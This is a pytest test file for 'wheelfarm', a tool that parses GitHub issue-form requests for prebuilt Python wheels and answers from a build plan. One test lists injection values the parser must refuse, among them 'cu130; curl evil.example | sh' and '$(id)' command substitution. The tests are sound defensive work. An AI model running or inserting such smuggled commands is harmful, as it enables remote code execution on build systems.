"""Wheel requests: the issue form's text is hostile input; the answer comes from the plan."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.roots import REPO
from wheelfarm.axes import Wanted
from wheelfarm.cli import main
from wheelfarm.core.commands import install_commands
from wheelfarm.core.errors import UsageError
from wheelfarm.core.schedule import next_run
from wheelfarm.matrix.expand import Cell, expand
from wheelfarm.matrix.load import load_matrix
from wheelfarm.matrix.plan import Plan, make_plan
from wheelfarm.request import (
    ANSWERED,
    SHAPES,
    Context,
    answer,
    answered_block,
    read_answered,
    read_form,
)

LABELS = {"package": "Package", "version": "Version", "torch": "torch", "cuda": "CUDA",
          "python": "Python", "platform": "Platform"}  # fmt: skip


def form(**answers: str) -> str:
    """An issue body as GitHub renders the form: a `### Label` heading above each answer."""
    return "".join(f"### {LABELS[k]}\n\n{v}\n\n" for k, v in answers.items())


def form_of(cell: Cell) -> str:
    return form(package=cell.package, version=cell.version, torch=cell.torch, cuda=cell.cuda,
                python=cell.python, platform=cell.platform)  # fmt: skip


MATRIX = load_matrix(REPO)
EXPANSION = expand(MATRIX)
BUILD = EXPANSION.builds[0]
CELL = BUILD.covers[0]
CONTEXT = Context(MATRIX)


def test_a_form_reads_into_the_plans_cell() -> None:
    request = read_form(form_of(CELL))
    assert request.id == CELL.id


PLAN = make_plan(MATRIX, EXPANSION)
NOW = datetime(2026, 12, 7, 8, 0, tzinfo=timezone.utc)
DATED = Context(MATRIX, "https://octo.github.io/farm/", next_run("41 5 * * *", NOW), "41 5 * * *")
QUEUED = next(b for b in PLAN.todo if b.package == "flash-attn" and b.platform == "win_amd64"
              and (b.cuda, b.torch_minor) == ("cu130", "2.14"))  # fmt: skip


def ask(plan: Plan = PLAN, context: Context = DATED, **answers: str) -> str:
    cell = QUEUED.covers[0]
    fields = {k: getattr(cell, k) for k in LABELS} | answers
    return answer(plan, read_form(form(**fields)), context).text


def test_a_queued_cell_is_dated_from_farm_ymls_next_scheduled_run() -> None:
    where = PLAN.placed[PLAN.group_of(QUEUED.id).id]
    done = datetime(2026, 12, 8, 5, 41, tzinfo=timezone.utc) + timedelta(minutes=where.ends)
    text = ask()
    assert text.startswith(
        f"Planned, tier {where.tier}, queued: {QUEUED.id} is place {where.place} of "
    )
    assert (
        "The next scheduled farm run starts 2026-12-08 05:41 UTC (farm.yml's cron `41 5 * * *`)"
        in text
    )
    assert f"published by {done:%Y-%m-%d %H:%M} UTC, {where.ends / 60:.1f} h after that." in text
    assert "after the next farm run starts" in ask(context=CONTEXT)  # no farm.yml: undated


def test_a_cell_past_the_runs_days_waits_for_the_run_after() -> None:
    later = PLAN.later[0].builds[0]
    text = ask(**{k: getattr(later.covers[0], k) for k in LABELS})
    assert text.startswith("Planned, tier ") and "past that run's 6 days" in text
    assert (
        "the run after it builds" in text and "starts at the earliest 2026-12-14 05:41 UTC" in text
    )


def test_a_published_cell_gives_the_command_that_installs_it_and_its_index() -> None:
    plan = make_plan(MATRIX, EXPANSION, existing={QUEUED.id})
    text = ask(plan)
    cell, index = QUEUED.covers[0], "https://octo.github.io/farm/cu130/torch2.14/"
    assert text.startswith(
        f"Published in release flash-attn-v{QUEUED.version} (built as {QUEUED.id})."
    )
    version = f"{QUEUED.version}+{QUEUED.label}"
    printed = install_commands(
        "flash-attn", version, index, "https://download.pytorch.org/whl/cu130"
    )
    assert (cell.cuda, cell.torch) == ("cu130", "2.14")
    assert f"```\n{printed.pip}\n```" in text and f"```\n{printed.uv}\n```" in text
    assert text.endswith(f"Index: {index}flash-attn/")
    assert "of the farm's site" in ask(plan, CONTEXT)  # no site known: the index path alone


def test_an_unknown_package_is_named_as_none_of_the_farms() -> None:
    text = ask(package="vllm")
    assert text.startswith("Not planned: vllm is not a package of this farm: it packages 46 (")
    assert "did you mean" not in text.lower()
    assert "Did you mean flash-attn?" in ask(package="flash-atn")


def test_a_version_not_packaged_names_the_packaged_one_and_answers_for_it() -> None:
    text = ask(package="nunchaku", version="1.2.0")
    assert text.startswith("Not planned: nunchaku 1.2.0 is not in the matrix yet: the farm "
                           "packages nunchaku version 1.1.0. For nunchaku 1.1.0 on this cell: ")  # fmt: skip
    older = ask(version="2.8.3")
    assert older.startswith("Not planned: flash-attn 2.8.3 is not in the matrix: the farm "
                            "packages flash-attn version 2.8.3.post2. For flash-attn 2.8.3.post2 on this cell: Planned, tier")  # fmt: skip


@pytest.mark.parametrize(
    ("answers", "says"),
    [
        (
            {"torch": "2.8", "cuda": "cu130"},
            "torch 2.8 ships no cu130 build: it ships cu126, cu128, cu129 (torch.yaml).",
        ),
        ({"torch": "2.3"}, "torch 2.3 is not in the farm's grid: torch.yaml lists torch 2.4, "),
        ({"python": "3.9"}, "torch 2.14 ships Python 3.10 to 3.14, not 3.9 (torch.yaml)."),
        (
            {"torch": "2.4", "cuda": "cu124", "platform": "linux_aarch64"},
            "torch 2.4's cu124 build has no linux_aarch64 wheel: it ships linux_x86_64, win_amd64",
        ),
    ],
)
def test_a_cell_torch_does_not_ship_says_which_axis_and_what_torch_ships(
    answers: dict[str, str], says: str
) -> None:
    assert ask(**answers).startswith(f"Not planned: {says}")


SAGEATTENTION = (REPO.matrix / "packages" / "sageattention.yaml").read_text(encoding="utf-8")


def test_an_excluded_cell_quotes_the_package_files_reason_and_suggests_planned_cells() -> None:
    text = ask(cuda="cu126", platform="linux_aarch64", python="3.12")
    assert 'matrix/packages/flash-attn.yaml:26 excludes it: "sm80/sm90 kernels only; ' in text
    sage = ask(package="sageattention", version="2.2.0.post6", torch="2.7", cuda="cu128")
    line = next(
        i for i, text in enumerate(SAGEATTENTION.splitlines(), 1) if 'torch: ">=2.8"' in text
    )
    assert f'sageattention.yaml:{line} allows torch >=2.8 only: "post6: >= 2.10 (the stable' in sage
    planned = {c.id for c in EXPANSION.cells}
    for text in (sage, ask(python="3.9")):
        suggested = text.split("The nearest cells it plans: ", 1)[1].rstrip(".").split("; ")
        assert suggested
        for item in suggested:
            cuda, torch, python, platform = (p.split()[-1] for p in item.split(" / "))
            package = "sageattention" if "sageattention" in text else "flash-attn"
            version = "2.2.0.post6" if package == "sageattention" else "2.8.3.post2"
            cell = f"{package}-{version}-{cuda}-torch{torch}-cp{python.replace('.', '')}-{platform}"
            assert cell in planned


def test_a_cell_one_version_excludes_names_the_version_that_serves_it() -> None:
    """A ComfyUI portable on torch 2.8 asking for the newest sageattention (stable ABI, torch
    2.10 on) is told the per-torch 2.2.0.post3 serves its cell, and when; asking for a version
    the farm lacks answers for the version that serves the cell, not only the newest."""
    cell = {"package": "sageattention", "torch": "2.8", "cuda": "cu128", "platform": "win_amd64"}
    text = ask(**cell, version="2.2.0.post6")
    assert "is excluded: matrix/packages/sageattention.yaml: abi.min_torch 2.10" in text
    assert "sageattention 2.2.0.post3 serves this cell: Planned, tier 3" in text
    assert "sageattention-2.2.0.post3-cu128torch2.8-cp39-abi3-win_amd64" in text
    unknown = ask(**cell, version="2.3.0")
    assert "For sageattention 2.2.0.post3 on this cell: Planned" in unknown
    linux = ask(**{**cell, "platform": "linux_x86_64"}, version="2.2.0.post6")
    assert "serves this cell" not in linux  # post3 is Windows only: the nearest post6 cells
    assert "The nearest cells it plans: " in linux


@pytest.mark.parametrize(
    ("field", "typed", "kept"),
    [
        ("cuda", "13.0", "cu130"), ("cuda", "CUDA 12.8", "cu128"), ("cuda", "13.0.88", "cu130"),
        ("cuda", "cu130", "cu130"), ("torch", "2.14.0", "2.14"), ("torch", "2.14.1+cu130", "2.14"),
        ("torch", "torch 2.14", "2.14"), ("python", "3.12.4", "3.12"), ("python", "cp312", "3.12"),
        ("python", "Python 3.12", "3.12"), ("platform", "Windows", "win_amd64"),
        ("platform", "windows 11", "win_amd64"), ("platform", "Linux", "linux_x86_64"),
        ("platform", "linux aarch64", "linux_aarch64"), ("platform", "ARM64", "linux_aarch64"),
        ("platform", "linux_x86_64", "linux_x86_64"), ("version", "v2.8.3", "2.8.3"),
    ],
)  # fmt: skip
def test_the_form_takes_users_words(field: str, typed: str, kept: str) -> None:
    answers = {k: getattr(CELL, k) for k in LABELS} | {field: typed}
    assert getattr(read_form(form(**answers)), field) == kept


@pytest.mark.parametrize(
    ("field", "typed", "says"),
    [
        ("cuda", "13", "names a major only: give its minor too"),
        ("cuda", "CPU", "the farm builds CUDA wheels only"),
        ("platform", "macOS 14", "torch ships no CUDA build for macOS"),
    ],
)
def test_words_the_farm_cannot_serve_say_why(field: str, typed: str, says: str) -> None:
    answers = {k: getattr(CELL, k) for k in LABELS} | {field: typed}
    with pytest.raises(UsageError, match=f"^the request's {field}.*{says}"):
        read_form(form(**answers))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("package", "flash-attn @everyone"),
        ("package", "[x](https://evil.example)"),
        ("version", "2.8.3\n### CUDA\n\ncu130"),
        ("cuda", "cu130; curl evil.example | sh"),
        ("platform", "linux_x86_64`$(id)`"),
        ("python", "_No response_"),
    ],
)
def test_a_hostile_answer_is_refused_by_its_label(field: str, value: str) -> None:
    answers = {k: getattr(CELL, k) for k in LABELS} | {field: value}
    with pytest.raises(UsageError, match=r"^the request's [a-z]+ is (missing or not|answered)"):
        read_form(form(**answers))


def test_a_missing_answer_is_refused() -> None:
    with pytest.raises(UsageError, match=r"^the request's package is missing"):
        read_form("Please build flash-attn for me!")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400) | st.builds(form, package=st.text(), version=st.text(),
       torch=st.text(), cuda=st.text(), python=st.text(), platform=st.text()))  # fmt: skip
def test_any_body_reads_into_shaped_fields_or_one_usage_error(body: str) -> None:
    """Nothing the requester wrote reaches the reply or the dispatch unless it has the shape
    the plan uses; everything else is one UsageError naming the field, not its text."""
    try:
        request = read_form(body)
    except UsageError as exc:
        error = str(exc)
    else:
        error = ""
    if error:
        assert error.startswith("the request's ") and "\n" not in error
        return
    for key, (shape, _) in SHAPES.items():
        assert shape.fullmatch(getattr(request, key))
    assert request.id.isascii() and request.id.isprintable()


def test_the_command_answers_and_writes_the_selection(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    body = tmp_path / "body.md"
    body.write_text(form_of(CELL), encoding="utf-8")
    out = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    args = ["request", "--root", str(REPO.path), "--body-file", str(body), "--github-output"]
    assert main([*args, "--now", "2026-12-07T08:00Z"]) == 0
    assert capsys.readouterr().out.startswith("Planned, tier 3, after the next run:")
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines == ["planned=true", f"package={CELL.package}", f"version={CELL.version}",
                     f"cuda={CELL.cuda}",
                     f"torch={CELL.torch}", f"python={CELL.python}", f"platform={CELL.platform}"]  # fmt: skip


def test_the_answer_comment_reads_back_the_cell_it_answered(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 49 row 5: `--comment` ends the answer with the cell, hidden; `--answered` builds
    that cell whatever the issue says by then (its form is not read)."""
    body = tmp_path / "body.md"
    body.write_text(form_of(CELL), encoding="utf-8")
    root = ["request", "--root", str(REPO.path)]
    assert main([*root, "--body-file", str(body), "--comment"]) == 0
    comment = capsys.readouterr().out
    assert comment.startswith("Planned, tier 3, ") and comment.count(ANSWERED) == 1
    assert comment.endswith("-->\n") and "\n### package\n" in comment.split(ANSWERED)[1]
    saved = tmp_path / "answer.md"
    saved.write_text("<!-- wheelfarm request answer -->\n" + comment, encoding="utf-8")
    assert main([*root, "--body-file", str(saved), "--answered"]) == 0
    assert capsys.readouterr().out.startswith("Planned, tier 3, ")
    assert read_answered(comment) == read_form(form_of(CELL))


def test_an_answer_without_a_cell_is_refused_naming_the_fix() -> None:
    with pytest.raises(UsageError, match=r"names no cell .* add the build-request label again"):
        read_answered("wheelfarm request: error: the request's package is missing")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.text(max_size=300))
def test_any_answer_comment_reads_into_a_shaped_cell_or_one_usage_error(
    before: str, inside: str
) -> None:
    """The comment is read back as hostile text too: only the shapes the plan uses leave it."""
    try:
        request = read_answered(f"{before}{ANSWERED}\n{inside}-->")
    except UsageError as exc:
        error = str(exc)
    else:
        error = ""
        assert all(shape.fullmatch(getattr(request, k)) for k, (shape, _) in SHAPES.items())
    assert not error or (error.startswith("the request's ") and "\n" not in error)


def test_a_cell_survives_its_block() -> None:
    request = read_form(form_of(CELL))
    assert read_answered("Planned.\n\n" + answered_block(request)) == request


def test_request_is_a_dataclass_of_the_six_answers() -> None:
    assert set(Wanted.__dataclass_fields__) == set(SHAPES) == set(LABELS)
